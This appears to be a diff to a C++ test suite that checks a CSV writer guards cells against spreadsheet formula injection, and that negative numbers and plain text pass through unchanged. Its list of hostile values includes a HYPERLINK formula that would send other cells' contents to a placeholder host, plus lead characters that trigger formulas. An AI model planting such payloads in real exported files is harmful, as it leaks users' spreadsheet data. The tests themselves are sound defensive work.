@@ -24,6 +24,19 @@ std::string write(const std::vector<std::vector<std::string>>& records) {
     return out;
 }
 
+/// The records a reader gets back: each field as csv::cell_text() writes it.
+std::vector<std::vector<std::string>> as_cells(std::vector<std::vector<std::string>> records) {
+    for (auto& r : records) {
+        for (auto& f : r) f = csv::cell_text(f);
+    }
+    return records;
+}
+
+/// What a reader recovers from a cell: one leading apostrophe removed (docs/FORMAT.md 18.3).
+std::string unguarded(std::string_view cell) {
+    return std::string(cell.starts_with(csv::kFormulaGuard) ? cell.substr(1) : cell);
+}
+
 const std::vector<std::string> kHostile{
     "",
     " ",
@@ -41,6 +54,16 @@ const std::vector<std::string> kHostile{
     "tab\there",
     "emoji 🙂 and ї є ґ",
     "=1+1",
+    "=HYPERLINK(\"https://example.org/?\"&H2&I2,\"x\")",
+    "@SUM(1)",
+    "+1",
+    "-1+2",
+    "-5",
+    "\xEF\xBC\x9D"
+    "1+1",  // full-width =
+    "'quoted",
+    "\tx",
+    "\r\n=1",
 };
 
 std::size_t column(const case_table::Table& t, std::string_view key) {
@@ -74,7 +97,12 @@ TEST_CASE("every hostile value round-trips through the strict parser") {
     const std::string text = write(records);
     auto parsed = parse_csv_strict(text);
     REQUIRE_MESSAGE(parsed.error.empty(), parsed.error);
-    CHECK(parsed.records == records);
+    CHECK(parsed.records == as_cells(records));
+    for (std::size_t r = 0; r < records.size(); ++r) {
+        for (std::size_t i = 0; i < records[r].size(); ++i) {
+            CHECK(unguarded(parsed.records[r][i]) == records[r][i]);
+        }
+    }
     // One column of one empty value, too.
     auto lone = parse_csv_strict(write({{""}, {""}}));
     REQUIRE_MESSAGE(lone.error.empty(), lone.error);
@@ -83,7 +111,8 @@ TEST_CASE("every hostile value round-trips through the strict parser") {
 
 TEST_CASE("random fields of quotes, separators and line breaks round-trip") {
     std::mt19937 rng(4180);
-    const std::vector<std::string> alphabet{"a", " ", ",", "\"", "\r", "\n", "|", "ї", "Ё", ";"};
+    const std::vector<std::string> alphabet{"a", " ", ",", "\"", "\r", "\n", "|", "ї",
+                                            "Ё", ";", "=", "-",  "'",  "5",  "＋"};
     for (int round = 0; round < 300; ++round) {
         const std::size_t cols = 1 + rng() % 6;
         std::vector<std::vector<std::string>> records(1 + rng() % 5);
@@ -96,7 +125,44 @@ TEST_CASE("random fields of quotes, separators and line breaks round-trip") {
         }
         auto parsed = parse_csv_strict(write(records));
         REQUIRE_MESSAGE(parsed.error.empty(), parsed.error);
-        REQUIRE(parsed.records == records);
+        REQUIRE(parsed.records == as_cells(records));
+    }
+}
+
+TEST_CASE("a cell a spreadsheet would read as a formula gets one apostrophe, quoted") {
+    // docs/FORMAT.md 18.3: every lead, after leading spaces.
+    for (std::string_view lead :
+         {"=",  "+",  "-", "@", "\t", "\r", "\n", "'", "＝", "﹦", "⁼",  "₌",
+          "＋", "﹢", "﬩", "⁺", "₊",  "－", "﹣", "−", "⁻",  "₋",  "＠", "﹫"}) {
+        for (const std::string& field :
+             {std::string(lead) + "1+1", "  " + std::string(lead) + "x", std::string(lead)}) {
+            CAPTURE(field);
+            CHECK(csv::needs_formula_guard(field));
+            std::string out;
+            csv::append_field(out, field);
+            std::string quoted = "\"'";
+            for (char c : field) quoted += c == '"' ? std::string("\"\"") : std::string(1, c);
+            CHECK(out == quoted + "\"");
+        }
+    }
+    CHECK(write({{"=1+1", "@SUM(1)", "x", "'a"}}) == "\"'=1+1\",\"'@SUM(1)\",x,\"''a\"\r\n");
+    // A plain negative number stays a number; anything more is guarded.
+    for (std::string_view number : {"-5", "-0", "-0.25", "-12345678901234567890"}) {
+        CAPTURE(number);
+        CHECK_FALSE(csv::needs_formula_guard(number));
+        CHECK(csv::cell_text(number) == number);
+    }
+    for (std::string_view not_number :
+         {"-", "-.5", "-5.", "-5 ", " -5", "--5", "-1e3", "-1+2", "-5.0.1", "-٥", "-５"}) {
+        CAPTURE(not_number);
+        CHECK(csv::needs_formula_guard(not_number));
+    }
+    // Ordinary text, and a lead that is not first, are left alone.
+    for (std::string_view plain : {"", " ", "5", "a=1", "Київ", "1-2", "x@y", "\xE2\x80\x94 dash",
+                                   "[sealed for the legal team]"}) {
+        CAPTURE(plain);
+        CHECK_FALSE(csv::needs_formula_guard(plain));
+        CHECK(csv::cell_text(plain) == plain);
     }
 }
 
@@ -200,8 +266,7 @@ TEST_CASE("a record's answers become a labelled main row and linked rows per rep
     for (const auto& r : main.rows) csv::append_record(text, r);
     auto parsed = parse_csv_strict(text);
     REQUIRE_MESSAGE(parsed.error.empty(), parsed.error);
-    CHECK(parsed.records[1] == row);
-    CHECK(parsed.records[0] == headers);
+    CHECK(parsed.records == as_cells({headers, main.rows[0], main.rows[1]}));
 
     // English headers; a missing answer is an empty cell; an unopened marker on the device.
     case_table::CellOptions en;
